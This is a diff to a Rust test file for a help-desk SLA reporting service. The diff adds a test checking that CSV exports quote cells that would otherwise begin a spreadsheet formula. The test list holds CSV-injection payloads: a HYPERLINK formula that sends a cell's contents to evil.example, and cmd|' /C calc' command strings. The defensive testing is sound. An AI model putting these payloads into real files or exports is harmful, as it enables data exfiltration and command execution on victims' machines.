@@ -106,7 +106,7 @@ async fn mayor_token(app: &TestApp) -> TestResult<String> {
 
 /// One case of a timeline with known answers, inserted directly with exact
 /// timestamps (not through the clock), so every figure can be worked out by hand.
-struct Planned {
+pub(crate) struct Planned {
     area: &'static str,
     topic: &'static str,
     channel: &'static str,
@@ -132,7 +132,13 @@ struct Planned {
 }
 
 impl Planned {
-    fn new(area: &'static str, topic: &'static str, channel: &'static str, owner: Uuid, opened: &'static str) -> Self {
+    pub(crate) fn new(
+        area: &'static str,
+        topic: &'static str,
+        channel: &'static str,
+        owner: Uuid,
+        opened: &'static str,
+    ) -> Self {
         Planned {
             area,
             topic,
@@ -157,7 +163,7 @@ impl Planned {
 const FR_TARGET: i64 = 900;
 const RS_TARGET: i64 = 432_000;
 
-async fn insert_planned(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
+pub(crate) async fn insert_planned(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
     let pool = &app.pool;
     let opened: DateTime<Utc> = p.opened.parse()?;
     let at = |secs: i64| opened + chrono::Duration::seconds(secs);
@@ -715,5 +721,94 @@ async fn the_figures_in_memory_miss_no_commit_however_late() -> TestResult {
     // An hour on, its 15-minute first-response deadline has passed unmet: a breach, swept or not.
     let later = all(figures.report(&today, Grouping::All, Utc::now() + chrono::Duration::hours(1)).await?)?;
     assert_eq!((later.first_response_decided, later.first_response_breaches), (1, 1), "{later:?}");
+    app.teardown().await
+}
+
+/// Topics a desk could type, each starting the way a spreadsheet formula
+/// can (OWASP's CSV injection list), and one plain one to show plain text
+/// passes as it is.
+const FORMULA_TOPICS: [&str; 7] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "puistot",
+];
+
+/// Every CSV Batline writes (the SLA report, the breaches, the dashboard's
+/// download and the public open data) writes a formula-looking topic as
+/// text: quoted, the rest of the cell kept, the numbers still numbers.
+#[tokio::test]
+async fn no_csv_cell_starts_a_formula() -> TestResult {
+    let app = TestApp::spawn().await?;
+    let aino = app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
+    let mikko = app.add_responder("mikko", "Mikko", &[Language::Fi], DutyStatus::OnDuty).await?;
+    // Five cases per topic, so /open shows each topic's name.
+    for topic in FORMULA_TOPICS {
+        for day in 20..25 {
+            let opened: &'static str = Box::leak(format!("2026-10-{day}T10:00:00Z").into_boxed_str());
+            insert_planned(&app, mikko.id, &Planned::new("Kallio", topic, "walk_in", aino.id, opened)).await?;
+        }
+    }
+    let expected = |topic: &str| {
+        if topic.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{topic}") } else { topic.to_owned() }
+    };
+    // Each CSV's cells in the named column: the topics, quoted where they would start a formula.
+    let check = |what: &str, csv: &str, column: &str| -> TestResult {
+        let (header, lines) = parse_csv(csv)?;
+        let at = header.iter().position(|h| h == column).ok_or_else(|| anyhow::anyhow!("{what}: no {column}"))?;
+        let mut topics: Vec<&str> = lines.iter().filter_map(|line| line.get(at).map(String::as_str)).collect();
+        topics.sort_unstable();
+        topics.dedup();
+        let mut want: Vec<String> = FORMULA_TOPICS.iter().map(|t| expected(t)).collect();
+        want.sort_unstable();
+        assert_eq!(topics, want, "{what}: {csv}");
+        for line in &lines {
+            for cell in line {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: {cell:?} starts a formula");
+            }
+            if let Some(cases) = header.iter().position(|h| h == "cases") {
+                assert!(line[cases].parse::<f64>().is_ok(), "{what}: cases {:?} is a number", line[cases]);
+            }
+        }
+        Ok(())
+    };
+    let week = "from=2026-10-19&to=2026-10-25";
+    let lead = app.sign_in("backstop").await?;
+    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/sla?{week}&by=topic&format=csv")).await?;
+    assert_eq!(status, 200);
+    check("the SLA report", &csv, "group")?;
+    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/breaches?{week}&format=csv")).await?;
+    assert_eq!(status, 200);
+    check("the breaches", &csv, "topic")?;
+
+    let mayor = app.add_responder("mayor", "Pormestari", &[Language::Fi], DutyStatus::Off).await?;
+    sqlx::query("UPDATE responders SET role = 'mayor' WHERE id = $1").bind(mayor.id).execute(&app.pool).await?;
+    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build()?;
+    let cookie = crate::roles::web_session(&http, &app.console, "mayor").await?;
+    let export = http
+        .get(format!("{}/dashboard/export?from=2026-10-19&to=2026-10-25&by=topic&format=csv", app.console))
+        .header("Cookie", &cookie)
+        .send()
+        .await?;
+    assert_eq!(export.status(), 200);
+    check("the dashboard's download", &export.text().await?, "group")?;
+
+    let open = app.http.get(format!("{}/open/data.csv?{week}", app.gateway)).send().await?;
+    assert_eq!(open.status(), 200);
+    let open = open.text().await?;
+    let (_, lines) = parse_csv(&open)?;
+    let mut cells: Vec<&str> = lines.iter().filter(|l| l[0] == "topic").map(|l| l[1].as_str()).collect();
+    cells.sort_unstable();
+    let mut want: Vec<String> = FORMULA_TOPICS.iter().map(|t| expected(t)).collect();
+    want.sort_unstable();
+    assert_eq!(cells, want, "the open data: {open}");
+    for line in &lines {
+        for cell in line {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "the open data: {cell:?} starts a formula");
+        }
+    }
     app.teardown().await
 }
